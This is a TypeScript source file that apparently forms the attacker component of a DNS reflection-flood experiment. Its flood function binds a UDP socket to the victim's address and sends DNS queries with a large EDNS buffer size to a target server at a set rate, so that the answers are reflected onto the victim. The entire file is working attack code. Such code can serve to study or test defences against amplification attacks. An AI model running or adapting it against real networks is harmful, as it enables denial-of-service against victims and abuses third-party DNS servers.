// SPDX-License-Identifier: GPL-2.0-or-later
// The attacker: sends each query once and waits for nothing. It needs no raw socket to lie about its address: its host owns the victim's
// address, so that an ordinary socket can be bound to it, and the network routes the answers to the real victim.

import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import { encodeQuery, type QueryType } from '../dns.js'

export interface FloodTask {
  /** Whom the packets claim to come from. */
  readonly source: string
  readonly target: string
  readonly queries: readonly { readonly name: string; readonly type: QueryType }[]
  /** Between two packets: bounds the rate. */
  readonly gapMilliseconds: number
}

export interface FloodResult {
  readonly packets: number
}

export async function flood({ source, target, queries, gapMilliseconds }: FloodTask): Promise<FloodResult> {
  const socket = createSocket('udp4')
  socket.bind(0, source)
  await once(socket, 'listening')
  for (const [index, { name, type }] of queries.entries()) {
    const message = encodeQuery({ id: index & 0xffff, name, type, udpSize: 4096 })
    await new Promise<void>((resolve, reject) => {
      socket.send(message, 53, target, (error) => (error ? reject(error) : resolve()))
    })
    await sleep(gapMilliseconds)
  }
  socket.close()
  return { packets: queries.length }
}
